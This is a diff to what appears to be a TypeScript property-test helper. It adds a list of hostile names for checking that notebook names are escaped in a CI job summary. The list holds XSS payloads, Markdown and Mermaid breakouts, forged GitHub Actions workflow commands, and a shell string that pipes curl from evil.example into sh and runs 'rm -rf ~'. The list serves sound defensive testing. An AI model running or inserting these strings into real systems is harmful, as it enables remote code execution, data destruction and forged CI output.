@@ -43,3 +43,21 @@ export const hostile = fc.oneof(
   fc.string({ maxLength: 20 })
 )
 export const hostileText = fc.array(hostile, { maxLength: 12 }).map(parts => parts.join(''))
+
+/**
+ * Names (and values) a notebook may glue to reach past where they are shown: out of the job
+ * summary's HTML and its details fold, into a Mermaid chart (a fence, a directive, a click
+ * handler), a mention, an HTML comment, a tracking image, a shell, the runner's commands.
+ */
+export const HOSTILE_NAMES = [
+  '</details>',
+  '```',
+  '%%{init: {"theme": "dark"}}%%',
+  'click x href "javascript:alert(1)"',
+  '@org/team',
+  '<!-- -->',
+  '![x](https://tracker.example/p.png)',
+  '<img src=x onerror=alert(1)>\n\n# Heading',
+  "$(curl evil.example | sh) `id` '; rm -rf ~",
+  '::add-mask::x\n::error::forged\r##[error]legacy'
+]
